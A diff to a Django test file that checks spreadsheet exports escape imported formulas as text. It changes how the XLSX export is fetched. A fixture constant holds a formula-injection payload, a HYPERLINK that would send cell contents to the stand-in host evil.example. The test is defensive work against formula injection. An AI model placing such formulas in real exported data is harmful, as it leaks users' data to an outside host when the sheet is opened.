@@ -8,6 +8,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from declarations.cells import SafeCsvWriter, safe_cell, safe_row
+from tests.export_jobs import exported
 from tests.factories import CompanyFactory, DeclarationFactory
 
 LINK = '=HYPERLINK("http://evil.example/?d="&A2,"Click for details")'
@@ -34,8 +35,7 @@ def test_the_list_exports_carry_an_imported_formula_as_text(client, hq, bazargan
     company, waybill = rows[0].index("transport company"), rows[0].index("waybill number")
     assert (rows[1][company], rows[1][waybill]) == ("'" + LINK, "'=1+1")
 
-    response = client.get(reverse("declarations:export-xlsx"))
-    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
+    sheet = load_workbook(io.BytesIO(exported(client, reverse("declarations:export-xlsx")))).worksheets[0]
     company, waybill = sheet.cell(2, company + 1), sheet.cell(2, waybill + 1)
     assert (company.data_type, waybill.data_type) == ("s", "s")  # text, not "f" (a formula)
     assert (company.value, waybill.value) == ("'" + LINK, "'=1+1")
